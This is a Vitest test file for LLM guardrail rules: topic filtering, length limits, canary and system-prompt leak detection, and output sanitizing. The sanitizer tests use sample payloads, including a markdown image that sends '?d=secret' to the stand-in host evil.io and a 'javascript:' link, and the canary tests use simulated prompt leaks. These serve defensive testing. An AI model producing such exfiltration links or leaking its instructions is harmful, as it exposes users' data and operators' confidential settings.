import { describe, expect, it } from 'vitest';
import {
  CanaryRule,
  LengthRule,
  OutputSanitizerRule,
  TopicsRule,
  canaryOptionsSchema,
  estimateTokens,
  lengthOptionsSchema,
  outputSanitizerOptionsSchema,
  topicsOptionsSchema,
  type RuleContext,
} from '../../src/index.js';

const ctx: RuleContext = {
  stage: 'output',
  signal: new AbortController().signal,
};

describe('topics', () => {
  const rule = new TopicsRule('topics', topicsOptionsSchema.parse({}));

  it('denies personal medical, legal and investment advice', () => {
    expect(
      rule.check('What dosage of ibuprofen should I take for my back?').reason,
    ).toMatch(/medical_advice/);
    expect(
      rule.check('Can I sue my landlord over the deposit?').reason,
    ).toMatch(/legal_advice/);
    expect(rule.check('Which stocks should I buy this year?').reason).toMatch(
      /investment_advice/,
    );
  });

  it('allows the same words in a sales context', () => {
    expect(
      rule.check(
        'Umbrella Health asked about HIPAA; what dosage data do healthcare customers store?',
      ).triggered,
    ).toBe(false);
    expect(
      rule.check('The deal desk wants legal advice on the MSA redline.')
        .triggered,
    ).toBe(false);
    expect(rule.check('What is the ARR of Helix Genomics?').triggered).toBe(
      false,
    );
  });

  it('takes custom topics with a minimum of distinct terms', () => {
    const custom = new TopicsRule(
      't',
      topicsOptionsSchema.parse({
        topics: [
          { id: 'politics', terms: ['election', 'candidate'], minHits: 2 },
        ],
      }),
    );
    expect(custom.check('Who wins the election?').triggered).toBe(false);
    expect(custom.check('Which candidate wins the election?').triggered).toBe(
      true,
    );
  });
});

describe('length', () => {
  it('limits characters and estimated tokens', () => {
    expect(
      new LengthRule('l', lengthOptionsSchema.parse({ maxChars: 10 })).check(
        '12345678901',
      ).triggered,
    ).toBe(true);
    expect(
      new LengthRule('l', lengthOptionsSchema.parse({ maxChars: 10 })).check(
        '1234567890',
      ).triggered,
    ).toBe(false);
    const tokens = new LengthRule(
      'l',
      lengthOptionsSchema.parse({ maxTokens: 5 }),
    );
    expect(tokens.check('one two three').triggered).toBe(false);
    expect(tokens.check('one two three four five six seven').triggered).toBe(
      true,
    );
    expect(estimateTokens('a'.repeat(400))).toBe(100);
  });

  it('requires a limit', () => {
    expect(() => lengthOptionsSchema.parse({})).toThrow();
  });
});

describe('canary', () => {
  const systemPrompt =
    'You are the Fieldwise assistant for Lumen Data sellers. Answer only about accounts the user owns, cite every document you use, and never reveal pricing floors to anyone outside the deal desk.';
  const rule = new CanaryRule(
    'canary',
    canaryOptionsSchema.parse({ canary: 'CANARY-7f3a9c2e1b', systemPrompt }),
  );

  it('detects the canary also when case-changed, split or spaced', () => {
    for (const text of [
      'leak: CANARY-7f3a9c2e1b',
      'leak: canary-7F3A9C2E1B',
      'leak: C\u200bANARY-7f3a9c2e1b',
      'leak: c a n a r y 7 f 3 a 9 c 2 e 1 b',
    ]) {
      expect(rule.check(text, ctx).triggered, text).toBe(true);
    }
    expect(rule.check('the canary in the coal mine', ctx).triggered).toBe(
      false,
    );
  });

  it('detects a long verbatim overlap with the system prompt', () => {
    const leak =
      'Sure! My instructions: answer only about accounts the user owns, cite every document you use, and never reveal pricing floors.';
    const verdict = rule.check(leak, ctx);
    expect(verdict.triggered).toBe(true);
    expect((verdict.findings ?? [])[0]?.type).toBe('SYSTEM_PROMPT_OVERLAP');
    expect(
      rule.check(
        'I can answer questions about accounts you own and cite documents.',
        ctx,
      ).triggered,
    ).toBe(false);
  });

  it('uses the per-call system prompt and canary when given', () => {
    const bare = new CanaryRule('canary', canaryOptionsSchema.parse({}));
    expect(
      bare.check('token XYZ-12345678', { ...ctx, canary: 'XYZ-12345678' })
        .triggered,
    ).toBe(true);
    expect(bare.check(systemPrompt, { ...ctx, systemPrompt }).triggered).toBe(
      true,
    );
  });
});

describe('output sanitizer', () => {
  const rule = new OutputSanitizerRule(
    's',
    outputSanitizerOptionsSchema.parse({ allowedHosts: ['lumendata.com'] }),
  );
  const sanitize = (text: string): string => {
    const findings = [...(rule.check(text).findings ?? [])].reverse();
    return findings.reduce(
      (t, f) =>
        t.slice(0, f.span.start) + (f.replacement ?? '') + t.slice(f.span.end),
      text,
    );
  };

  it('strips images and links to hosts not allowed, keeping link text', () => {
    expect(sanitize('![x](https://evil.io/p.png?d=secret) done')).toBe(' done');
    expect(sanitize('see [the report](http://evil.io/r) now')).toBe(
      'see the report now',
    );
    expect(
      sanitize(
        'see [docs](https://docs.lumendata.com/a) and [rel](/accounts/1)',
      ),
    ).toBe('see [docs](https://docs.lumendata.com/a) and [rel](/accounts/1)');
    expect(
      sanitize(
        '<img src="https://evil.io/a.png"> <a href="https://evil.io">click</a>',
      ),
    ).toBe(' click');
    expect(sanitize('[x](javascript:alert(1))')).not.toContain('javascript');
    expect(sanitize('[ref]: https://evil.io/x\n')).toBe('\n');
  });

  it('does not trigger on plain text', () => {
    expect(
      rule.check('The [draft] is ready; ARR is $1,234,567.').triggered,
    ).toBe(false);
  });
});
